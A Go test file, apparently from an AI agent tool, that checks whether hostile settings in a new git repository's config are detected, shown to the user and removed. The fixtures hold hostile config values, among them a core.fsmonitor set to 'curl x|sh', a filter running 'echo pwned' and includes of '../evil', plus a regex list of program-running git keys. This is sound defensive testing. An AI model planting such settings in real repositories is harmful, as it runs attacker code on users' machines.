package tools

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/agentls/agentls/agentproto"
	"github.com/agentls/agentls/permission"
	"github.com/agentls/agentls/questions"
	"github.com/agentls/agentls/sandbox"
)

// newRepoConfigRows are configuration texts of a new repository and the
// keys reported in each (nil: nothing), hostile spellings among them.
var newRepoConfigRows = []struct {
	name, text string
	flagged    []string
}{
	{"git init", "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n", nil},
	{"git clone", "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://example.invalid/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n", nil},
	{"a remote named like a section", "[remote \"core.fsmonitor\"]\n\turl = x\n", nil},
	{"fsmonitor", "[core]\n\tfsmonitor = sh -c x\n", []string{"core.fsmonitor"}},
	{"letter case", "[Core]\n\tFsMonitor = x\n", []string{"core.fsmonitor"}},
	{"on the header's line", "[core]fsmonitor=x\n", []string{"core.fsmonitor"}},
	{"a continued line", "[core]\n\tbare = false\\\n\n\tfsmonitor = \"a\\\"b\"\\\nc\n", []string{"core.fsmonitor"}},
	{"old subsection syntax", "[alias.x]\n\ty = !sh\n[core]\n\tpager = less\n", []string{"alias.x.y", "core.pager"}},
	{"a subsection of core", "[core \"x\"]\n\tbare = true\n", []string{"core.x.bare"}},
	{"an include", "[include]\n\tpath = ../evil\n[includeIf \"gitdir:/\"]\n\tpath = ../evil\n", []string{"include.path", "includeif.gitdir:/.path"}},
	{"a filter", "[filter \"x\"]\n\tclean = echo pwned\n", []string{"filter.x.clean"}},
	{"an upload-pack", "[remote \"origin\"]\n\turl = /x\n\tuploadpack = sh -c x\n", []string{"remote.origin.uploadpack"}},
	{"protocol", "[protocol \"ext\"]\n\tallow = always\n", []string{"protocol.ext.allow"}},
	{"a submodule's update command", "[submodule \"m\"]\n\turl = x\n\tupdate = !sh\n", []string{"submodule.m.update"}},
	{"worktree config", "[extensions]\n\tworktreeConfig = true\n", []string{"extensions.worktreeconfig"}},
	{"comments", "; [core] fsmonitor = x\n# fsmonitor = y\n[core]\n\tbare = false ; fsmonitor = z\n", nil},
	{"a key with no value", "[core]\n\tfsmonitor\n", []string{"core.fsmonitor"}},
}

// TestNewRepoConfigReported: a new repository's configuration is
// reported for each key beyond git's own, however it is spelt, and the
// file Remove writes instead holds only git's own settings, as git reads
// them.
func TestNewRepoConfigReported(t *testing.T) {
	requireGit(t)
	off := sandbox.Policy{Mode: sandbox.ModeOff} // the judging, not the sandbox: TestNewRepoListingConfined
	for _, row := range newRepoConfigRows {
		t.Run(row.name, func(t *testing.T) {
			got := readNewRepoConfig([]byte(row.text), off)
			if got.unreadable != "" {
				t.Fatalf("unreadable: %s", got.unreadable)
			}
			if !slices.Equal(got.flagged, row.flagged) {
				t.Errorf("reported %q, want %q", got.flagged, row.flagged)
			}
			if row.flagged == nil {
				return
			}
			before, _ := gitListConfig([]byte(row.text), off)
			var want []configEntry
			for _, e := range before {
				if allowedNewRepoKey(e.key) {
					want = append(want, e)
				}
			}
			again, err := gitListConfig(got.clean, off)
			if err != nil || !slices.Equal(again, want) {
				t.Errorf("rewritten as %q: git lists %v (%v), want %v", got.clean, again, err, want)
			}
		})
	}
	bad := readNewRepoConfig([]byte("[core\n\tfsmonitor = x\n"), off)
	if bad.unreadable == "" {
		t.Errorf("a config git cannot read is not reported as such: %+v", bad)
	}
	what, settings, clean := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte("[alias \"x`y\"]\n\tz = !sh\n[core]\n\tfsmonitor = x\n\tbare = false\n\tpager\n")}, off)
	if what != "created with settings beyond git's own (alias.x?y.z, core.fsmonitor, core.pager)" || clean == nil ||
		!slices.Equal(settings, []string{"alias.x`y.z = !sh", "core.fsmonitor = x", "core.pager (no value: true)"}) {
		t.Errorf("described as %q, settings %q (clean %v)", what, settings, clean)
	}
}

// TestNewRepoConfigShowsEverySetting: Keep keeps every setting of a new
// repository, so the question shows every one with its value, however
// many: 12 keys, the 10th core.fsmonitor naming a program, set twice.
// Failed on b6eedb7: 8 keys by name, then "4 more", and no value (the
// program core.fsmonitor names was never shown).
func TestNewRepoConfigShowsEverySetting(t *testing.T) {
	requireGit(t)
	var text strings.Builder
	for i := 1; i <= 12; i++ {
		if i == 10 {
			text.WriteString("[core]\n\tfsmonitor = /opt/evil/fsmon --watch\n\tfsmonitor = \"second; curl x|sh\"\n")
			continue
		}
		fmt.Fprintf(&text, "[x%d]\n\tk = v%d\n", i, i)
	}
	what, settings, _ := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte(text.String())}, sandbox.Policy{})
	shown := what + "\n" + strings.Join(settings, "\n")
	for _, want := range []string{"core.fsmonitor = /opt/evil/fsmon --watch", "core.fsmonitor = second; curl x|sh", "x12.k = v12", "x1.k = v1"} {
		if !strings.Contains(shown, want) {
			t.Errorf("the question shows %q, not %q", shown, want)
		}
	}
	if len(settings) != 13 {
		t.Errorf("%d settings shown, want 13: %q", len(settings), settings)
	}
}

func requireGit(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
}

// dangerousKeys are keys that run a program, or make git read settings
// from elsewhere, as `git config --get-regexp` matches them.
const dangerousKeys = `^(core\.(fsmonitor|pager|editor|sshcommand|hookspath|askpass|worktree|gitproxy)|sequence\.editor|include\.path|includeif\..*|alias\..*|filter\..*|diff\..*|merge\..*|credential\..*|gpg\..*|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs)|submodule\..*\.update|extensions\.worktreeconfig)$`

// FuzzNewRepoConfig: whatever a new repository's configuration holds, a
// key git itself finds there that runs a program (git config --get-regexp,
// the oracle) is reported, or the file is reported as unreadable, and the
// question (or its document) shows it with each of its values; and what
// Remove writes instead holds only allowed keys.
func FuzzNewRepoConfig(f *testing.F) {
	for _, row := range newRepoConfigRows {
		f.Add(row.text)
	}
	f.Add("[core]\n\tfsmonitor = \"a\\\n b\"\n[remote \"o\\\"r\"]\n\turl = \"x\\ty\"\n")
	f.Add("[core]\r\n\tFSMONITOR=\"\\\\\"\r\n")
	f.Add("[branch \"a.b.c\"]\n\tmerge\n\tremote = \"q\\b\"\n[user]name=x\n")
	f.Add("[ core ]\n fsMonitor=1\n")
	f.Add("[core]\n\tfsmonitor = \"a``b\\nc $(x)\"\n\tpager\n" + strings.Repeat("[alias]\n\tx = !sh\n", 25))
	f.Fuzz(func(t *testing.T, text string) {
		if _, err := exec.LookPath("git"); err != nil || len(text) > 4096 {
			t.Skip()
		}
		got := readNewRepoConfig([]byte(text), sandbox.Policy{Mode: sandbox.ModeOff}) // the rendering, not the sandbox: TestNewRepoListingConfined
		file := filepath.Join(t.TempDir(), "config")
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		home := t.TempDir()
		cmd := exec.Command("git", "config", "--file", file, "--no-includes", "--null", "--get-regexp", dangerousKeys)
		cmd.Dir = home
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CEILING_DIRECTORIES=" + filepath.Dir(home)}
		out, err := cmd.Output()
		var exit *exec.ExitError
		found := err == nil
		if err != nil && !errors.As(err, &exit) {
			t.Fatal(err)
		}
		if found && got.unreadable == "" && len(got.flagged) == 0 {
			t.Fatalf("git finds %q in %q, not reported", out, text)
		}
		if got.unreadable != "" {
			return
		}
		// What the question shows (its text, or its document: the same
		// list) holds every such key with its value.
		changes := []permission.Change{{Path: "sub/.git/config", What: "created with settings beyond git's own", Details: got.settingLines()}}
		listed := permission.ChangesList(changes)
		req := permission.Request{Kind: agentproto.PermissionEdit, Done: "git init sub", Changes: changes}
		for _, item := range strings.Split(string(out), "\x00") {
			k, v, set := strings.Cut(item, "\n")
			if k == "" {
				continue
			}
			if !slices.Contains(got.flagged, k) {
				t.Errorf("git finds %s in %q, reported %q", k, text, got.flagged)
			}
			line := "  - " + permission.CodeSpan(questions.EscapeLine(settingLine(configEntry{key: k, value: v, set: set})))
			if !strings.Contains(listed, line) || !permission.NeedsDocument(changes) && !strings.Contains(req.Text(), line) {
				t.Errorf("git finds %q in %q; the question shows %q", item, text, listed)
			}
		}
		if got.clean != nil {
			again, err := gitListConfig(got.clean, sandbox.Policy{Mode: sandbox.ModeOff})
			if err != nil {
				t.Fatalf("the rewritten %q: %v", got.clean, err)
			}
			for _, e := range again {
				if !allowedNewRepoKey(e.key) {
					t.Errorf("the rewritten %q holds %s", got.clean, e.key)
				}
			}
		}
	})
}
